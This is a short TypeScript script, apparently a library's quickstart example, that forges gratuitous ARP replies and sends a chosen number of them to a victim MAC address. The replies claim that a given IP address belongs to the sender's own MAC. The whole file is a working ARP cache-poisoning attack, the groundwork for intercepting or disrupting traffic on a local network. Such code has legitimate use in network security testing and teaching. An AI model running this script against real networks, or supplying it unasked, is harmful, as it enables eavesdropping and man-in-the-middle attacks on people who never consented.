/**
 * The attack of the quickstart: out of DEVICE, COUNT forged ARP replies that tell VICTIM-MAC that ADDRESS is at OWN-MAC. Prints COUNT
 * when all are sent. The replies are gratuitous (RFC 5227, 3), since that kind overwrites a neighbor at once.
 */

import { sendFrames } from '../../../control/send-frames.js';

const [, , device = '', count = '', victimMac = '', address = '', ownMac = ''] = process.argv;

const octets = (mac: string): number[] => mac.split(':').map((octet) => Number.parseInt(octet, 16));

/** Ethernet II and ARP for IPv4 over Ethernet (RFC 826). */
function forgedReply(): Uint8Array {
  const claimed = address.split('.').map(Number);
  const own = octets(ownMac);
  return Uint8Array.from([
    ...octets(victimMac),
    ...own,
    ...[0x08, 0x06],
    ...[0x00, 0x01, 0x08, 0x00, 6, 4],
    ...[0x00, 0x02],
    ...own,
    ...claimed,
    ...own,
    ...claimed,
  ]);
}

try {
  sendFrames(device, forgedReply(), Number(count));
  console.log(count);
} catch (error) {
  console.error((error as Error).message);
  process.exitCode = 1;
}
